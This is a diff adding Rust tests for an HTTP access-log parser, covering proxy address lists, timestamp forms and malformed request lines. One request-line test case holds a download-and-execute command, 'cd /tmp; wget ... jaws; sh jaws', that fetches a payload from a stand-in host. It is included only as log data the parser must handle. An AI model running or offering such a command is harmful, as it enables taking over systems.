@@ -70,3 +70,83 @@ fn other_lines_are_none() {
         assert_eq!(Access::parse(line), None, "{line}");
     }
 }
+
+/// Lists of addresses, users with blanks, and what they are taken for.
+#[test]
+fn clients_behind_proxies() {
+    for (head, virtual_host, host, user) in [
+        ("203.0.113.7 - -", None, "203.0.113.7", None),
+        ("203.0.113.7, 10.0.3.4 - -", None, "203.0.113.7", None),
+        ("203.0.113.7, 10.0.3.4, 10.0.9.9 - -", None, "203.0.113.7", None),
+        ("203.0.113.7,10.0.3.4 - -", None, "203.0.113.7", None),
+        ("2001:db8::7, 10.0.3.4 - -", None, "2001:db8::7", None),
+        ("unknown, 10.0.3.4 - -", None, "10.0.3.4", None),
+        ("\"203.0.113.7, 10.0.3.4\" - -", None, "203.0.113.7", None),
+        ("\"203.0.113.7\" - -", None, "203.0.113.7", None),
+        ("(203.0.113.7, 10.0.3.4) - bob", None, "203.0.113.7", Some("bob")),
+        ("10.0.2.100 (203.0.113.7, 10.0.3.4) - -", None, "203.0.113.7", None),
+        ("10.0.2.100 \"203.0.113.7, 10.0.3.4\" - -", None, "203.0.113.7", None),
+        ("10.0.2.100 203.0.113.7, 10.0.3.4 - -", None, "203.0.113.7", None),
+        ("10.0.2.100 203.0.113.7 - -", None, "203.0.113.7", None),
+        ("203.0.113.7 10.0.2.100 - -", None, "203.0.113.7", None),
+        ("203.0.113.7:51532, 10.0.3.4 - -", None, "203.0.113.7:51532", None),
+        ("[2001:db8::7]:443 - -", None, "[2001:db8::7]:443", None),
+        ("203.0.113.7 - frank smith", None, "203.0.113.7", Some("frank smith")),
+        ("client.example - frank de la smith", None, "client.example", Some("frank de la smith")),
+        ("203.0.113.7, 10.0.3.4 - frank smith", None, "203.0.113.7", Some("frank smith")),
+        ("www.shop.example:443 203.0.113.7 - -", Some("www.shop.example:443"), "203.0.113.7", None),
+        ("www.shop.example 203.0.113.7, 10.0.3.4 - bob", Some("www.shop.example"), "203.0.113.7", Some("bob")),
+        ("www.shop.example client.example - bob", Some("www.shop.example"), "client.example", Some("bob")),
+        ("- - -", None, "-", None),
+        ("x, - -", None, "x,", None),
+    ] {
+        let line = format!("{head} [21/Nov/2026:11:20:00 +0000] \"GET / HTTP/1.1\" 200 88");
+        let found = parse(&line);
+        assert_eq!((found.virtual_host, found.remote_host, found.remote_user), (virtual_host, host, user), "{head}");
+    }
+}
+
+#[test]
+fn times_of_other_forms() {
+    for (time, is_time) in [
+        ("21/Nov/2026:11:20:00 +0000", true),
+        ("21/Nov/2026:11:20:00.123 +0000", true),
+        ("21/Nov/2026:11:20:00.123456 -0700", true),
+        ("2026-11-21T11:20:00+00:00", true),
+        ("2026-11-21T11:20:00.123-07:00", true),
+        ("2026-11-21T11:20:00Z", true),
+        ("21/Nov/2026:11:20:00. +0000", false),
+        ("21/Nov/2026 11:20:00", false),
+        ("2026-11-21", false),
+        ("11:20", false),
+        ("1\u{e9}", false),
+    ] {
+        let line = format!("::1 - - [{time}] \"GET / HTTP/1.1\" 200 88");
+        assert_eq!(Access::parse(&line).map(|found| found.time), is_time.then_some(time), "{time}");
+    }
+}
+
+#[test]
+fn requests_with_blanks_and_in_lower_case() {
+    for (request, expected) in [
+        ("GET / HTTP/1.1", Some(("GET", "/", Some("HTTP/1.1")))),
+        (
+            "GET /shell?cd+/tmp;wget+ a.b.example/jaws;sh+jaws HTTP/1.1",
+            Some(("GET", "/shell?cd+/tmp;wget+ a.b.example/jaws;sh+jaws", Some("HTTP/1.1"))),
+        ),
+        ("GET  /two HTTP/1.1", Some(("GET", "/two", Some("HTTP/1.1")))),
+        ("get /lower HTTP/1.1", Some(("get", "/lower", Some("HTTP/1.1")))),
+        ("GET /a", Some(("GET", "/a", None))),
+        ("GET /a b", Some(("GET", "/a b", None))),
+        ("OPTIONS * RTSP/1.0", Some(("OPTIONS", "* RTSP/1.0", None))),
+        ("hello there", None),
+        ("GET  HTTP/1.1", None),
+        ("GET", None),
+        (r"\x16\x03\x01 a", None),
+        ("\u{e9} / HTTP/1.1", None),
+    ] {
+        let line = format!("::1 - - [21/Nov/2026:11:20:00 +0000] \"{request}\" 200 88");
+        let found = parse(&line).request_line().map(|found| (found.method, found.target, found.protocol));
+        assert_eq!(found, expected, "{request}");
+    }
+}
